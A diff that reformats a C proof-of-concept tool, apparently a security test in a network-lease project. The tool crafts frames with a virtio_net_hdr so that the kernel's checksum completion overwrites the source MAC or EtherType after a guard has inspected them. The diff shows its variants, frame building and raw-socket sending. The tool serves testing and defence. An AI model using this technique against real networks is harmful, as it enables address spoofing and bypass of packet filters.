@@ -1,13 +1,16 @@
 /* SPDX-License-Identifier: GPL-2.0-or-later */
 /*
- * The checksum trick, as an attacker with a lease's fd plays it: frames that look harmless to the guard, each with a
- * virtio_net_hdr that asks the kernel to complete a "checksum" over the whole frame and to store it in the source
- * address or the EtherType. The bytes are chosen so that the completed sum is the value the attacker wants there.
- * Kernels before about 6.12 obey (virtio_net_hdr_to_skb(), include/linux/virtio_net.h), after the guard has looked.
+ * The checksum trick, as an attacker with a lease's fd plays it: frames that look harmless to the
+ * guard, each with a virtio_net_hdr that asks the kernel to complete a "checksum" over the whole
+ * frame and to store it in the source address or the EtherType. The bytes are chosen so that the
+ * completed sum is the value the attacker wants there. Kernels before about 6.12 obey
+ * (virtio_net_hdr_to_skb(), include/linux/virtio_net.h), after the guard has looked.
  *
- * Prints a line for each attempt, "sent VARIANT" or "refused VARIANT: reason", and exits 0 when every attempt was made;
- * whether a frame got out, and as what, is seen on the wire: each carries the cookie. It needs no capability with --fd;
- * --interface opens a socket or tap of its own, to show that the attack is real where nothing is in its way.
+ * Prints a line for each attempt, "sent VARIANT" or "refused VARIANT: reason", and exits 0 when
+ * every attempt was made; whether a frame got out, and as what, is seen on the wire: each carries
+ * the cookie. It needs no capability with --fd;
+ * --interface opens a socket or tap of its own, to show that the attack is real where nothing is in
+ * its way.
  */
 
 #include <arpa/inet.h>
@@ -42,8 +45,9 @@ typedef struct Variant {
 } Variant;
 
 static const Variant VARIANTS[] = {
-        {"source-0-6", 0, 6, false}, {"source-6-0", 6, 0, false}, {"source-4-2", 4, 2, false},
-        {"ethertype-0-12", 0, 12, true}, {"ethertype-6-6", 6, 6, true}, {"ethertype-12-0", 12, 0, true},
+        {"source-0-6", 0, 6, false},   {"source-6-0", 6, 0, false},
+        {"source-4-2", 4, 2, false},   {"ethertype-0-12", 0, 12, true},
+        {"ethertype-6-6", 6, 6, true}, {"ethertype-12-0", 12, 0, true},
 };
 
 static int arg_fd = -1;
@@ -74,8 +78,9 @@ static uint16_t sum_of(const uint8_t *bytes, size_t size) {
         return (uint16_t)sum;
 }
 
-/* A frame that is honest to look at, and that becomes the wanted one when its "checksum" is completed. The kernel sums
- * everything from start on, the bytes it will overwrite among them, and stores the complement. */
+/* A frame that is honest to look at, and that becomes the wanted one when its "checksum" is
+ * completed. The kernel sums everything from start on, the bytes it will overwrite among them, and
+ * stores the complement. */
 static void build_frame(const Variant *variant, uint8_t frame[static FRAME_SIZE]) {
         uint16_t wanted = variant->tag ? ETHERTYPE_VLAN : STOLEN;
         uint16_t target = (uint16_t)~wanted, sum;
@@ -96,17 +101,22 @@ static void build_frame(const Variant *variant, uint8_t frame[static FRAME_SIZE]
 }
 
 static int usage(void) {
-        fprintf(stderr, "usage: checksum-trick (--fd N | --interface NAME) [--tap] --mac SOURCE [--ifindex N]\n"
-                        "                      [--bypass] [--cookie TEXT]\n");
+        fprintf(stderr,
+                "usage: checksum-trick (--fd N | --interface NAME) [--tap] --mac SOURCE [--ifindex N]\n"
+                "                      [--bypass] [--cookie TEXT]\n");
         return 2;
 }
 
 static int parse_arguments(int argc, char **argv) {
         static const struct option OPTIONS[] = {
-                {"fd", required_argument, NULL, 'f'},      {"interface", required_argument, NULL, 'i'},
-                {"tap", no_argument, NULL, 't'},           {"mac", required_argument, NULL, 'm'},
-                {"ifindex", required_argument, NULL, 'x'}, {"bypass", no_argument, NULL, 'b'},
-                {"cookie", required_argument, NULL, 'c'},  {0},
+                {"fd", required_argument, NULL, 'f'},
+                {"interface", required_argument, NULL, 'i'},
+                {"tap", no_argument, NULL, 't'},
+                {"mac", required_argument, NULL, 'm'},
+                {"ifindex", required_argument, NULL, 'x'},
+                {"bypass", no_argument, NULL, 'b'},
+                {"cookie", required_argument, NULL, 'c'},
+                {0},
         };
         bool have_mac = false;
         uint32_t value = 0;
@@ -118,12 +128,24 @@ static int parse_arguments(int argc, char **argv) {
                 if (c == '?' || (number && text_parse_u32(optarg, 0, INT32_MAX, &value) < 0))
                         return -EINVAL;
                 switch (c) {
-                case 'f': arg_fd = (int)value; break;
-                case 'x': arg_ifindex = value; break;
-                case 'i': arg_interface = optarg; break;
-                case 't': arg_tap = true; break;
-                case 'b': arg_bypass = true; break;
-                case 'c': arg_cookie = optarg; break;
+                case 'f':
+                        arg_fd = (int)value;
+                        break;
+                case 'x':
+                        arg_ifindex = value;
+                        break;
+                case 'i':
+                        arg_interface = optarg;
+                        break;
+                case 't':
+                        arg_tap = true;
+                        break;
+                case 'b':
+                        arg_bypass = true;
+                        break;
+                case 'c':
+                        arg_cookie = optarg;
+                        break;
                 case 'm':
                         if (mac_parse(optarg, &arg_mac) < 0)
                                 return -EINVAL;
@@ -142,7 +164,8 @@ static int open_packet(void) {
         };
         _cleanup_close_ int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
 
-        if (fd < 0 || address.sll_ifindex == 0 || bind(fd, (struct sockaddr *)&address, sizeof(address)) < 0)
+        if (fd < 0 || address.sll_ifindex == 0 ||
+            bind(fd, (struct sockaddr *)&address, sizeof(address)) < 0)
                 return -errno;
         return TAKE_FD(fd);
 }
@@ -159,7 +182,8 @@ static int open_tap(void) {
         return TAKE_FD(fd);
 }
 
-/* How long a virtio_net_hdr the fd takes: a tap's may have been set by its last holder. 0 or -errno. */
+/* How long a virtio_net_hdr the fd takes: a tap's may have been set by its last holder. 0 or
+ * -errno. */
 static int prepare_fd(int *ret_header) {
         int one = 1;
 
@@ -169,7 +193,8 @@ static int prepare_fd(int *ret_header) {
         /* No capability is asked for either of the two. */
         if (setsockopt(arg_fd, SOL_PACKET, PACKET_VNET_HDR, &one, sizeof(one)) < 0)
                 return -errno;
-        if (arg_bypass && setsockopt(arg_fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one)) < 0)
+        if (arg_bypass &&
+            setsockopt(arg_fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one)) < 0)
                 return -errno;
         return 0;
 }
@@ -197,7 +222,8 @@ static int send_variant(const Variant *variant, int header_size) {
         if (arg_tap)
                 n = write(arg_fd, message, size);
         else if (arg_ifindex)
-                n = sendto(arg_fd, message, size, MSG_DONTWAIT, (struct sockaddr *)&address, sizeof(address));
+                n = sendto(arg_fd, message, size, MSG_DONTWAIT, (struct sockaddr *)&address,
+                           sizeof(address));
         else
                 n = send(arg_fd, message, size, MSG_DONTWAIT);
         return n < 0 ? -errno : 0;
